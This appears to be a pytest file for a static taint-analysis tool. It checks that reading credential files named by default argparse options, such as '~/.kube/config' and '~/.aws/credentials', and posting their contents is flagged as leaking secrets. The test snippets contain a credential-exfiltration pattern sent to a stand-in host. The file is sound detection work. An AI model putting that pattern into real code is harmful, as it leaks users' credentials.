"""Files of credentials that a program takes unless it is told another."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.python.reading import flows


def sent(option: str, name: str = "config") -> set[Taint]:
    """The taints of what is sent of the file that an option names."""
    source = (
        f"import argparse, os, requests\nparser = argparse.ArgumentParser()\n{option}\noptions = parser.parse_args()\n"
        f"requests.post('https://far.invalid/', data=open(options.{name}).read())\n"
    )
    return {taint for sink, _, taints in flows(source) if sink is Capability.NETWORK for taint in taints}


@pytest.mark.parametrize(
    "option",
    [
        "parser.add_argument('--config', default='~/.kube/config')",
        "parser.add_argument('-c', '--config', default=os.path.expanduser('~/.kube/config'))",
        "parser.add_argument('-k', dest='config', default='~/.aws/credentials')",
    ],
)
def test_its_default_is_what_is_read(option: str) -> None:
    assert {Taint.FILE, Taint.SECRETS} == sent(option)


@pytest.mark.parametrize(
    "option",
    [
        "parser.add_argument('--config', default='settings.ini')",
        "parser.add_argument('--other', default='~/.kube/config')",
        "parser.add_argument('--config', dest='other', default='~/.kube/config')",
        "parser.add_argument('config')",
    ],
)
def test_others_are_their_users_to_give(option: str) -> None:
    assert {Taint.FILE} == sent(option)


def test_a_name_of_two_words_is_found() -> None:
    assert {Taint.FILE, Taint.SECRETS} == sent(
        "parser.add_argument('--kube-config', default='~/.kube/config')", "kube_config"
    )
